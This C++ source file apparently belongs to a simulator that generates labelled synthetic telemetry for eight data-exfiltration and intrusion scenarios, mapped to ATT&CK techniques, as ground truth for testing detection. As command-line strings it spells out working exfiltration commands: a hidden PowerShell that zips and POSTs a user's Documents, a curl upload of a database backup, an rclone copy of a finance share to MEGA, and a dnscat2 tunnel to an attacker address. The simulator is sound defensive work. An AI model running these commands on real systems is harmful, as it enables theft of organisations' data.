#include "outflow/simulate/scenarios.h"

#include <algorithm>
#include <fmt/format.h>

namespace outflow::sim {

namespace {

constexpr double MB = 1e6, GB = 1e9;

TimeNs secs(double s) { return static_cast<TimeNs>(s * 1e9); }

// What every scenario shares: its stream of random numbers, its host, when it may start, and
// the bookkeeping of its label.
class Base : public Scenario {
 public:
  Base(const Organisation& org, uint64_t seed, std::string_view name, const char* technique, const char* description)
      : org_(org), rng_(seed, stream_id(name)) {
    label_.scenario = name;
    label_.technique = technique;
    label_.description = description;
  }

 protected:
  // A host of one of the roles (first listed role that exists), chosen by the seed.
  int pick_host(std::initializer_list<Role> roles) {
    for (const Role r : roles) {
      std::vector<int> c;
      for (const auto& h : org_.hosts)
        if (h.role == r) c.push_back(static_cast<int>(h.index));
      if (!c.empty()) return rng_.pick(c);
    }
    return org_.workstations.empty() ? 0 : org_.workstations.front();
  }
  // A time on a day of the simulation, between the hours given (weekdays preferred).
  TimeNs pick_time(double from_h, double to_h) {
    std::vector<int> days;
    for (int d = 0; d < org_.days; ++d) {
      const int dow = static_cast<int>((org_.start / (86400 * kNsPerSec) + d + 4) % 7);
      if (dow != 0 && dow != 6) days.push_back(d);
    }
    const int day = days.empty() ? static_cast<int>(rng_.below(static_cast<uint64_t>(org_.days))) : rng_.pick(days);
    return org_.start + day * 24 * kHour + secs(rng_.uniform(from_h, to_h) * 3600);
  }
  void set_host(int h) {
    host_ = h;
    label_.host = org_.hosts[static_cast<size_t>(h)].name;
  }
  void mark(const SimProcess& p) {
    if (std::find(label_.process_guids.begin(), label_.process_guids.end(), p.guid) == label_.process_guids.end())
      label_.process_guids.push_back(p.guid);
  }
  void span(TimeNs a, TimeNs b) {
    if (label_.start == kNoTime || a < label_.start) label_.start = a;
    if (label_.end == kNoTime || b > label_.end) label_.end = b;
  }
  void destination(const std::string& d) {
    if (std::find(label_.destinations.begin(), label_.destinations.end(), d) == label_.destinations.end())
      label_.destinations.push_back(d);
  }
  void destination(std::string_view domain, const std::vector<IpAddr>& ips) {
    destination(std::string(domain));
    for (const auto& ip : ips) destination(ip.to_string());
  }
  // One connection of a scenario's process; the label's span grows with it.
  // Returns the connection as recorded (source port and Zeek uid filled in).
  SimConn connect(HostSim& h, SimProcess& p, TimeNs start, TimeNs dur, const IpAddr& dst, uint16_t port, uint8_t proto,
                   uint64_t out, uint64_t in, std::string_view domain,
                   SimConn::Outcome outcome = SimConn::Outcome::established, uint64_t packets = 0) {
    SimConn c;
    c.start = start;
    c.duration = std::max<TimeNs>(1'000'000, dur);
    c.dst = dst;
    c.dport = port;
    c.proto = proto;
    c.out_bytes = out;
    c.in_bytes = in;
    c.outcome = outcome;
    c.out_pkts = c.in_pkts = packets;
    h.recorder().connect(h.host().index, p, c, domain);
    span(start, c.end());
    return c;
  }
  // Uploads at `rate` bytes/s over parallel streams (one per entry of `next`, each holding when
  // its next connection starts), each connection about `chunk` seconds long (log-normal), until
  // the process ends; the part that starts in [t0, t1).
  void upload(HostSim& h, SimProcess& p, std::vector<TimeNs>& next, TimeNs t0, TimeNs t1, double rate,
              double chunk, std::string_view domain, const std::vector<IpAddr>& ips, uint16_t port) {
    for (auto& t : next) {
      while (t < t1 && t < p.end) {
        if (t < t0) t = t0;
        const TimeNs dur = std::min(secs(rng_.lognormal(chunk, 0.4)), p.end - t);
        const auto out = static_cast<uint64_t>(rate / static_cast<double>(next.size()) * static_cast<double>(dur) / 1e9);
        connect(h, p, t, dur, ips[rng_.below(ips.size())], port, kProtoTcp, out, out / 60 + 4000, domain);
        t += dur + secs(rng_.uniform(0.5, 3));
      }
    }
  }
  std::string user_name() const {
    const Host& h = org_.hosts[static_cast<size_t>(host_)];
    return h.user >= 0 ? org_.users[static_cast<size_t>(h.user)].name : "Administrator";
  }
  static SpawnSpec tool(std::string image, std::string cmd, std::string original, std::string company,
                        std::string description, Account account) {
    SpawnSpec s;
    s.image = std::move(image);
    s.command_line = std::move(cmd);
    s.original_file_name = std::move(original);
    s.company = std::move(company);
    s.description = std::move(description);
    s.account = account;
    s.key = "scenario";
    return s;
  }

  // The scenario's last process, if it still runs (a logoff or shutdown may have ended it
  // since the last hour): never a pointer to a process the host has forgotten.
  SimProcess* still_running(HostSim& h, SimProcess* p) const {
    return p && !label_.process_guids.empty() ? h.find_guid(label_.process_guids.back()) : nullptr;
  }
  // The scenario's server, by name: resolved as DNS would, and labelled.
  void target(std::string domain) {
    domain_ = std::move(domain);
    ips_ = resolve(domain_);
    destination(domain_, ips_);
  }

  const Organisation& org_;
  Rng rng_;
  int host_ = 0;
  TimeNs at_ = 0;  // planned start
  std::string domain_;
  std::vector<IpAddr> ips_;
};

// 1. rclone from a scheduled task, as SYSTEM, copying a share to cloud storage for hours.
class RcloneUpload final : public Base {
 public:
  RcloneUpload(const Organisation& org, uint64_t seed)
      : Base(org, seed, "rclone_cloud_upload", "T1567.002", "scheduled task runs rclone as SYSTEM, copying a share to cloud storage") {
    set_host(pick_host({Role::file_server, Role::app_server, Role::database_server}));
    at_ = pick_time(0.5, 3);
    total_ = rng_.uniform(3, 12) * GB;
    hours_ = rng_.uniform(2, 5);
    target(fmt::format("gfs{}n{}.userstorage.mega.co.nz", 200 + rng_.below(100), 100 + rng_.below(80)));
  }
  void run_hour(TimeNs t0, std::vector<HostSim>& hosts) override {
    HostSim& h = hosts[static_cast<size_t>(host_)];
    const TimeNs t1 = t0 + kHour;
    proc_ = still_running(h, proc_);
    if (!proc_ && at_ < t1 && at_ >= t0) {
      const SimProcess* task = h.find("schedule");
      proc_ = &h.spawn(tool("C:\\ProgramData\\rclone\\rclone.exe",
                            "\"C:\\ProgramData\\rclone\\rclone.exe\" copy D:\\Shares\\Finance mega:fin-archive "
                            "--transfers 4 --multi-thread-streams 4 --no-check-certificate -q",
                            "rclone.exe", "https://rclone.org", "Rsync for cloud storage", Account::system),
                       task, at_, at_ + secs(hours_ * 3600));
      mark(*proc_);
      next_.assign(4, at_ + secs(2));
      const auto api = resolve("g.api.mega.co.nz");  // logs in first
      connect(h, *proc_, at_ + secs(1), secs(0.8), api[0], 443, kProtoTcp, 3000, 9000, "g.api.mega.co.nz");
      destination("g.api.mega.co.nz", api);
    }
    if (proc_ && proc_->end >= t0) upload(h, *proc_, next_, t0, t1, total_ / (hours_ * 3600), 900, domain_, ips_, 443);
    if (proc_ && proc_->end < t1) proc_ = nullptr, at_ = kForever;
  }

 private:
  SimProcess* proc_ = nullptr;
  std::vector<TimeNs> next_;
  double total_, hours_;
};

// 2. A macro: winword.exe -> powershell.exe posting a staged archive to a rare domain.
class MacroPost final : public Base {
 public:
  MacroPost(const Organisation& org, uint64_t seed)
      : Base(org, seed, "macro_powershell_post", "T1041", "Word macro starts PowerShell, which posts a zipped Documents folder") {
    set_host(pick_host({Role::workstation, Role::admin_workstation}));
    at_ = pick_time(10, 15);
    target("upload.filedrop-cdn.net");
  }
  void run_hour(TimeNs t0, std::vector<HostSim>& hosts) override {
    HostSim& h = hosts[static_cast<size_t>(host_)];
    if (done_ || at_ >= t0 + kHour) return;
    const TimeNs t = std::max(t0, at_);
    SimProcess* ex = h.find("explorer");
    if (!h.logged_on(t) || !ex) return;  // wait for the user
    done_ = true;
    const std::string u = user_name();
    SimProcess& word = h.spawn(tool("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                                    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\" + u +
                                        "\\Downloads\\Remittance_advice_0412.docm\" /o \"\"",
                                    "WinWord.exe", "Microsoft Corporation", "Microsoft Word", Account::user),
                               ex, t, std::min(h.logoff_time(), t + secs(rng_.uniform(1200, 3600))));
    mark(word);
    connect(h, word, t + secs(3), secs(1), resolve("officeclient.microsoft.com")[0], 443, kProtoTcp, 2500, 12000,
            "officeclient.microsoft.com");
    const TimeNs ps_at = t + secs(rng_.uniform(20, 90));
    SimProcess& ps = h.spawn(tool("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                  "powershell.exe -nop -w hidden -ep bypass -c \"Compress-Archive -Path $env:USERPROFILE\\Documents "
                                  "-DestinationPath $env:TEMP\\d.zip -Force; Invoke-WebRequest -Uri https://" + domain_ +
                                      "/u/7f3a -Method POST -InFile $env:TEMP\\d.zip -UseBasicParsing\"",
                                  "PowerShell.EXE", "Microsoft Corporation", "Windows PowerShell", Account::user),
                             &word, ps_at, word.end);
    mark(ps);
    const double total = rng_.uniform(80, 600) * MB;
    const TimeNs up = ps_at + secs(rng_.uniform(60, 240));  // compressing first
    const double dur = total / (rng_.uniform(2, 6) * MB);
    connect(h, ps, up, secs(dur), ips_[0], 443, kProtoTcp, static_cast<uint64_t>(total), 24000, domain_);
    ps.end = std::min(ps.end, up + secs(dur + 2));
  }

 private:
  bool done_ = false;
};

// 3. A service account: sqlservr.exe -> cmd.exe -> curl.exe uploading a database dump.
class SqlCurlDump final : public Base {
 public:
  SqlCurlDump(const Organisation& org, uint64_t seed)
      : Base(org, seed, "sqlservr_curl_dump", "T1048", "xp_cmdshell: sqlservr runs cmd, which runs curl uploading a backup") {
    set_host(pick_host({Role::database_server}));
    at_ = pick_time(19, 23);
    target("transfer.sh-mirror.net");
  }
  void run_hour(TimeNs t0, std::vector<HostSim>& hosts) override {
    HostSim& h = hosts[static_cast<size_t>(host_)];
    if (done_ || at_ < t0 || at_ >= t0 + kHour) return;
    SimProcess* sql = h.find("sqlservr");
    if (!sql) return;
    done_ = true;
    const double total = rng_.uniform(1, 4) * GB;
    const double dur = total / (rng_.uniform(1.5, 4) * MB);
    SimProcess& cmd = h.spawn(tool("C:\\Windows\\System32\\cmd.exe",
                                   "\"C:\\Windows\\system32\\cmd.exe\" /c curl.exe -s -k -T D:\\MSSQL\\Backup\\CRM_full.bak https://" +
                                       domain_ + "/CRM_full.bak",
                                   "Cmd.Exe", "Microsoft Corporation", "Windows Command Processor", Account::svc_sql),
                              sql, at_, at_ + secs(dur + 5));
    mark(cmd);
    SimProcess& curl = h.spawn(tool("C:\\Windows\\System32\\curl.exe",
                                    "curl.exe  -s -k -T D:\\MSSQL\\Backup\\CRM_full.bak https://" + domain_ + "/CRM_full.bak",
                                    "curl.exe", "curl, https://curl.se/", "The curl executable", Account::svc_sql),
                               &cmd, at_ + secs(0.05), at_ + secs(dur + 4));
    mark(curl);
    connect(h, curl, at_ + secs(0.3), secs(dur), ips_[0], 443, kProtoTcp, static_cast<uint64_t>(total), 9000, domain_);
  }

 private:
  bool done_ = false;
};

// 4. Proxyware (T1496.002): a bandwidth-sharing client under the user's profile, started at
// each logon, relaying long sessions for many rare peers.
class Proxyware final : public Base {
 public:
  Proxyware(const Organisation& org, uint64_t seed)
      : Base(org, seed, "proxyware", "T1496.002", "bandwidth-sharing client in AppData relays traffic for many peers") {
    set_host(pick_host({Role::workstation, Role::admin_workstation}));
    at_ = pick_time(9, 12);
    destination("api.packetrelay.io", resolve("api.packetrelay.io"));
  }
  void run_hour(TimeNs t0, std::vector<HostSim>& hosts) override {
    HostSim& h = hosts[static_cast<size_t>(host_)];
    const TimeNs t1 = t0 + kHour;
    if (at_ >= t1) return;
    SimProcess* p = guid_.empty() ? nullptr : h.find_guid(guid_);
    if (!p) {
      SimProcess* ex = h.find("explorer");
      const TimeNs t = std::max(t0, at_) + secs(rng_.uniform(20, 300));
      if (!ex || !h.logged_on(t) || t >= t1) return;
      const std::string dir = "C:\\Users\\" + user_name() + "\\AppData\\Local\\PacketRelay\\";
      p = &h.spawn(tool(dir + "relayd.exe", "\"" + dir + "relayd.exe\" --minimized --token 9f3c2e71", "relayd.exe", "", "",
                        Account::user),
                   ex, t, h.logoff_time());
      guid_ = p->guid;
      mark(*p);
      t0 = t;
    }
    const auto api = resolve("api.packetrelay.io");
    for (TimeNs t = std::max(t0, p->start) + secs(rng_.uniform(1, 60)); t < t1 && t < p->end; t += secs(600))
      connect(h, *p, t, secs(rng_.uniform(0.5, 2)), api[0], 443, kProtoTcp, 1500, 4200, "api.packetrelay.io");
    const int sessions = static_cast<int>(rng_.between(6, 14));
    for (int i = 0; i < sessions; ++i) {
      const TimeNs t = t0 + secs(rng_.uniform(0, static_cast<double>(t1 - t0) / 1e9));
      if (t >= p->end) continue;
      const IpAddr peer = random_public_ip(rng_);
      destination(peer.to_string());
      const TimeNs dur = std::min(secs(rng_.lognormal(1800, 0.7)), p->end - t);
      const auto bytes = static_cast<uint64_t>(rng_.lognormal(40 * MB, 0.9));
      connect(h, *p, t, dur, peer, rng_.chance(0.5) ? 443 : static_cast<uint16_t>(rng_.between(20000, 40000)),
              kProtoTcp, static_cast<uint64_t>(static_cast<double>(bytes) * rng_.uniform(0.7, 1.3)), bytes, "");
    }
  }

 private:
  std::string guid_;
};

// 5. A DNS tunnel: hours of steady UDP/53 to one rare resolver, not the DC.
class DnsTunnel final : public Base {
 public:
  DnsTunnel(const Organisation& org, uint64_t seed)
      : Base(org, seed, "dns_tunnel", "T1071.004", "dnscat2 client tunnels over DNS to its own resolver for hours") {
    set_host(pick_host({Role::workstation, Role::admin_workstation}));
    at_ = pick_time(9.5, 12);
    resolver_ = attacker_ip(1, 53);  // 198.51.100.53
    destination(resolver_.to_string());
    destination(std::string(kZone));
  }
  void run_hour(TimeNs t0, std::vector<HostSim>& hosts) override {
    HostSim& h = hosts[static_cast<size_t>(host_)];
    const TimeNs t1 = t0 + kHour;
    if (!started_ && at_ < t1) {
      SimProcess* ex = h.find("explorer");
      const TimeNs t = std::max(t0, at_);
      if (!ex || !h.logged_on(t)) return;
      started_ = true;
      const std::string path = "C:\\Users\\" + user_name() + "\\AppData\\Local\\Temp\\dnscat2-v0.07-client-win32.exe";
      SimProcess& p = h.spawn(tool(path, "\"" + path + "\" --dns server=" + resolver_.to_string() + ",port=53,domain=" +
                                             std::string(kZone) + " --secret=4a1d9e",
                                   "dnscat2.exe", "", "", Account::user),
                              ex, t, std::min(h.logoff_time(), t + secs(rng_.uniform(3, 6) * 3600)));
      mark(p);
      begin_ = t + secs(1);
      end_ = p.end - secs(1);
      gap_ = rng_.uniform(1.5, 3.5);
      // One UDP conversation from one source port, as dnscat2 keeps its socket.
      const double n = static_cast<double>(end_ - begin_) / 1e9 / gap_;
      // One query and one answer a packet.
      conn_ = connect(h, p, begin_, end_ - begin_, resolver_, 53, kProtoUdp, static_cast<uint64_t>(n * 95),
                      static_cast<uint64_t>(n * 160), "", SimConn::Outcome::established, static_cast<uint64_t>(n));
    }
    if (!started_) return;
    // Zeek's dns.log has every query.
    for (TimeNs t = std::max(t0, begin_); t < t1 && t < end_; t += secs(gap_ * rng_.uniform(0.8, 1.2))) {
      std::string q;
      for (int i = 0; i < 3; ++i) q += fmt::format("{:016x}", rng_.next()) + ".";
      q += kZone;
      h.recorder().wire_dns({t, h.host().ip, resolver_, conn_.sport, q, "", true, conn_.uid});
    }
  }

 private:
  static constexpr std::string_view kZone = "cdn-telemetry.net";
  IpAddr resolver_;
  bool started_ = false;
  TimeNs begin_ = 0, end_ = 0;
  double gap_ = 2;
  SimConn conn_;
};

// 6. Low and slow (T1030): a small upload every hour for days to one rare destination.
class LowAndSlow final : public Base {
 public:
  LowAndSlow(const Organisation& org, uint64_t seed)
      : Base(org, seed, "low_and_slow", "T1030", "implant uploads a few hundred KB every hour for days") {
    set_host(pick_host({Role::app_server, Role::file_server, Role::sccm_server, Role::database_server}));
    at_ = org.start + secs(rng_.uniform(0.5, 2.5) * 3600);
    target("api.metrics-collector.net");
  }
  void run_hour(TimeNs t0, std::vector<HostSim>& hosts) override {
    HostSim& h = hosts[static_cast<size_t>(host_)];
    const TimeNs t1 = t0 + kHour;
    if (at_ >= t1) return;
    SimProcess* p = guid_.empty() ? nullptr : h.find_guid(guid_);
    if (!p) {
      if (!guid_.empty()) return;  // ended
      p = &h.spawn(tool("C:\\ProgramData\\Microsoft\\DeviceSync\\devsync.exe",
                        "\"C:\\ProgramData\\Microsoft\\DeviceSync\\devsync.exe\" -s", "devsync.exe", "", "", Account::system),
                   h.find("schedule"), at_, org_.end() - kHour);
      guid_ = p->guid;
      mark(*p);
      minute_ = rng_.uniform(5, 55);
    }
    const TimeNs t = t0 + secs((minute_ + rng_.uniform(-4, 4)) * 60);
    if (t < p->start || t >= p->end) return;
    connect(h, *p, t, secs(rng_.uniform(3, 25)), ips_[0], 443, kProtoTcp,
            static_cast<uint64_t>(rng_.uniform(0.3, 3) * MB), static_cast<uint64_t>(rng_.uniform(2, 8) * 1e3), domain_);
  }

 private:
  std::string guid_;
  double minute_ = 17;
};

// 7. Masquerade: svchost.exe in C:\Users\Public uploading, by address.
class MasqueradeSvchost final : public Base {
 public:
  MasqueradeSvchost(const Organisation& org, uint64_t seed)
      : Base(org, seed, "masquerade_svchost", "T1036.005", "svchost.exe copy in C:\\Users\\Public uploads to a bare address") {
    set_host(pick_host({Role::workstation, Role::admin_workstation}));
    at_ = pick_time(11, 16);
    ips_ = {attacker_ip(2, static_cast<int>(rng_.below(200)))};
    destination(ips_[0].to_string());
  }
  void run_hour(TimeNs t0, std::vector<HostSim>& hosts) override {
    HostSim& h = hosts[static_cast<size_t>(host_)];
    const TimeNs t1 = t0 + kHour;
    proc_ = still_running(h, proc_);
    if (!proc_ && !done_ && at_ < t1) {
      const TimeNs t = std::max(t0, at_);
      if (!h.powered(t) || !h.find("schedule")) return;
      done_ = true;
      const TimeNs end = std::min(t + secs(rng_.uniform(1, 2.5) * 3600), h.logoff_time() == kNoTime ? kForever : h.logoff_time());
      proc_ = &h.spawn(tool("C:\\Users\\Public\\svchost.exe", "C:\\Users\\Public\\svchost.exe -k netsvcs", "", "", "",
                            Account::system),
                       h.find("schedule"), t, end);
      mark(*proc_);
      rate_ = rng_.uniform(0.5, 2) * GB / (static_cast<double>(end - t) / 1e9);
      next_.assign(2, t + secs(3));
    }
    if (proc_ && proc_->end >= t0) upload(h, *proc_, next_, t0, t1, rate_, 600, "", ips_, 443);
    if (proc_ && proc_->end < t1) proc_ = nullptr;
  }

 private:
  SimProcess* proc_ = nullptr;
  bool done_ = false;
  double rate_ = 0;
  std::vector<TimeNs> next_;
};

// 8. A scanner or botnet member: one process to hundreds of addresses.
class ScannerFanout final : public Base {
 public:
  ScannerFanout(const Organisation& org, uint64_t seed)
      : Base(org, seed, "scanner_fanout", "T1046", "bot scans hundreds of internet addresses on 445/23/22") {
    set_host(pick_host({Role::workstation, Role::admin_workstation}));
    at_ = pick_time(13, 16);
  }
  void run_hour(TimeNs t0, std::vector<HostSim>& hosts) override {
    HostSim& h = hosts[static_cast<size_t>(host_)];
    const TimeNs t1 = t0 + kHour;
    proc_ = still_running(h, proc_);
    if (!proc_ && !done_ && at_ < t1) {
      SimProcess* ex = h.find("explorer");
      const TimeNs t = std::max(t0, at_);
      if (!ex || !h.logged_on(t)) return;
      done_ = true;
      const std::string path = "C:\\Users\\" + user_name() + "\\AppData\\Roaming\\Microsoft\\Windows\\Templates\\winupd.exe";
      proc_ = &h.spawn(tool(path, "\"" + path + "\"", "", "", "", Account::user), ex, t,
                       std::min(h.logoff_time(), t + secs(rng_.uniform(40, 90) * 60)));
      mark(*proc_);
      next_ = t + secs(2);
      port_ = rng_.pick(kPorts);
    }
    if (!proc_) return;
    for (; next_ < t1 && next_ < proc_->end; next_ += secs(rng_.uniform(0.5, 5))) {
      const IpAddr dst = random_public_ip(rng_);
      destination(dst.to_string());
      const double r = rng_.uniform();
      if (r < 0.85)
        connect(h, *proc_, next_, secs(3), dst, port_, kProtoTcp, 0, 0, "", SimConn::Outcome::unanswered);
      else if (r < 0.95)
        connect(h, *proc_, next_, secs(0.05), dst, port_, kProtoTcp, 0, 0, "", SimConn::Outcome::rejected);
      else
        connect(h, *proc_, next_, secs(rng_.uniform(0.2, 2)), dst, port_, kProtoTcp, 300, 250, "");
    }
    if (proc_->end < t1) proc_ = nullptr;
  }

 private:
  static constexpr uint16_t kPorts[] = {445, 23, 22};
  SimProcess* proc_ = nullptr;
  bool done_ = false;
  TimeNs next_ = 0;
  uint16_t port_ = 445;
};

}  // namespace

const std::vector<std::string_view>& scenario_names() {
  static const std::vector<std::string_view> k{"rclone_cloud_upload", "macro_powershell_post", "sqlservr_curl_dump",
                                               "proxyware",           "dns_tunnel",            "low_and_slow",
                                               "masquerade_svchost",  "scanner_fanout"};
  return k;
}

std::unique_ptr<Scenario> make_scenario(std::string_view name, const Organisation& org, uint64_t seed) {
  if (name == "rclone_cloud_upload") return std::make_unique<RcloneUpload>(org, seed);
  if (name == "macro_powershell_post") return std::make_unique<MacroPost>(org, seed);
  if (name == "sqlservr_curl_dump") return std::make_unique<SqlCurlDump>(org, seed);
  if (name == "proxyware") return std::make_unique<Proxyware>(org, seed);
  if (name == "dns_tunnel") return std::make_unique<DnsTunnel>(org, seed);
  if (name == "low_and_slow") return std::make_unique<LowAndSlow>(org, seed);
  if (name == "masquerade_svchost") return std::make_unique<MasqueradeSvchost>(org, seed);
  if (name == "scanner_fanout") return std::make_unique<ScannerFanout>(org, seed);
  return nullptr;
}

}  // namespace outflow::sim
